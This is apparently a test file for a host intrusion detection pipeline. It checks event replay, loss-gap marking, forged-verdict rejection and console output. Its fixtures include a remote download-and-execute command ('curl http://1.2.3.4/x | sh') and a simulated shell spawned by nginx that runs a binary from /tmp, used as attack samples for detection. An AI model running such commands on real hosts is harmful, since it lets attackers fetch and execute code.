"""Recorded events through the whole pipeline."""

import io

from hypothesis import given, settings
from hypothesis import strategies as st
from rich.console import Console

from shield.agent import rulebook
from shield.agent.pipeline import Pipeline
from shield.agent.recording import Recording
from shield.agent.replay import RecordedLosses, Replay, Replayed
from shield.collector.replay.damage import Damaged
from shield.event import Data, Event, Loss, Process, decode, encode
from shield.exporter.console import ConsoleView
from shield.policy.load import built_in
from shield.scorer.score import Scorer

BOOK = rulebook.load()
SECOND = 1_000_000_000


def replayed(text: bytes) -> tuple[list[Event], list[Damaged], Replayed]:
    policy = built_in()
    losses = RecordedLosses(policy.policy.story.window_seconds * SECOND)
    damages: list[Damaged] = []
    pipeline = Pipeline(Scorer(BOOK.ruleset, policy.policy, BOOK.databases), policy, "agent-1", losses.gaps)
    replay = Replay(Recording(damages.append), pipeline, losses)
    events = list(replay.events(io.BytesIO(text), "events.jsonl"))
    return events, damages, replay.summary()


def lines(events: list[Event]) -> bytes:
    return b"".join(encode(event) + b"\n" for event in events)


def recorded(seconds: int, data: Data, category: str = "process_start") -> bytes:
    event = Event(seconds, "h", "loss", "ALLOW", 0, "low_signal", data, "", "", "", ts_ns=seconds * SECOND)
    return encode(event).replace(b'"category":"loss"', f'"category":"{category}"'.encode()) + b"\n"


def shell(seconds: int, pid: int) -> bytes:
    return recorded(seconds, Data(process=Process(pid=pid, exe="/bin/sh", cmdline="curl http://1.2.3.4/x | sh")))


SHADOWED = (
    recorded(1000, Data(process=Process(pid=5, exe="/usr/sbin/nginx", name="nginx", cmdline="nginx")))
    + recorded(1001, Data(loss=Loss("ebpf", {"ring_full": 3})), "loss")
    + recorded(1002, Data(process=Process(pid=6, ppid=5, exe="/bin/sh", name="sh", cmdline="sh -c id")))
    + recorded(1003, Data(process=Process(pid=7, ppid=6, exe="/tmp/x", name="x", cmdline="/tmp/x \ufefe")))
)


def test_the_output_replayed_is_the_output_byte_for_byte() -> None:
    once, _, _ = replayed(SHADOWED)
    again, _, _ = replayed(lines(once))
    assert any(event.action == "ALERT" for event in once)
    assert lines(again) == lines(once) == lines(replayed(SHADOWED)[0])


def test_a_recorded_loss_is_kept_as_it_is_and_marks_the_findings_after_it() -> None:
    events, _, _ = replayed(SHADOWED)
    loss = events[1]
    assert loss.data.loss == Loss("ebpf", {"ring_full": 3})
    findings = [event for event in events[2:] if event.action != "ALLOW"]
    assert findings
    for event in findings:
        assert not event.evidence_complete
        assert "the recorded source has lost 3 records, the last within 600 s" in event.gaps


def test_numbers_have_no_gap_and_every_line_is_accounted_for() -> None:
    events, damages, summary = replayed(SHADOWED + b"no event\n\n" + SHADOWED)
    assert [event.seq for event in events] == list(range(1, 9))
    assert [(damage.source, damage.line) for damage in damages] == [("events.jsonl", 5)]
    assert summary.ledger.balanced
    assert (summary.ledger.seen, summary.ledger.dropped) == (9, {"not_an_event": 1})
    assert {event.policy_version for event in events} == {built_in().label}
    assert {event.agent_id for event in events} == {"agent-1"}


def test_what_an_event_claims_of_its_own_verdict_does_not_count() -> None:
    forged = shell(1000, 9).replace(b'"action":"ALLOW","score":0', b'"action":"ALERT","score":100')
    (event,), _, _ = replayed(forged.replace(b"curl http://1.2.3.4/x | sh", b"sh"))
    assert (event.action, event.score, event.rationale) == ("ALLOW", 0, "low_signal")


@settings(max_examples=40)
@given(
    st.lists(
        st.builds(
            Process,
            pid=st.integers(0, 9),
            ppid=st.integers(0, 9),
            exe=st.sampled_from(["", "/tmp/a", "/bin/sh", "C:\\a.exe", "/usr/sbin/nginx"]),
            cmdline=st.text(max_size=40) | st.just("curl http://1.2.3.4/x | sh"),
            name=st.text(max_size=5),
            start_ns=st.integers(0, (1 << 64) - 1),
            lifetime_ns=st.none() | st.integers(0, (1 << 64) - 1),
        ),
        max_size=6,
    ),
    st.integers(0, 9_223_372_036),
)
def test_any_events_can_be_judged_written_and_shown(processes: list[Process], seconds: int) -> None:
    text = b"".join(recorded(seconds, Data(process=process)) for process in processes)
    events, damages, _ = replayed(text)
    assert not damages
    assert [decode(encode(event)) for event in events] == events
    shown = io.StringIO()
    view = ConsoleView(Console(file=shown, width=100), everything=True)
    for event in events:
        view.show(event)
    view.close()
    assert "\x1b" not in shown.getvalue()
